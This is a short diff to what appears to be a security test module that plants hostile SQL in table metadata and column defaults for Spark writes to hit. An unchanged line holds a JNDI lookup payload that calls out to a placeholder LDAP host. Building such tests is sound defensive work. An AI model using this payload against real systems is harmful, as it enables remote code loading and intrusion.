@@ -1,4 +1,4 @@
-"""SQL in a table's metadata, and names that would break out of SQL. Spark's statements meet it in an honest write."""
+"""Hostile SQL in a table's metadata, and names that would break out of SQL; an ordinary write by Spark runs into them."""
 
 from tests.attacks.hostile_table import FIELDS, field
 
@@ -7,7 +7,7 @@ _CONNECT = "java_method('javax.naming.InitialContext', 'doLookup', 'ldap://{sink
 
 
 def _default(text):
-    """A column that a write leaves out."""
+    """A column with a default expression, which a write leaves out."""
 
     def attack(table):
         filled = field("filled", CURRENT_DEFAULT=text.format(outside=table.outside, sink=table.sink))
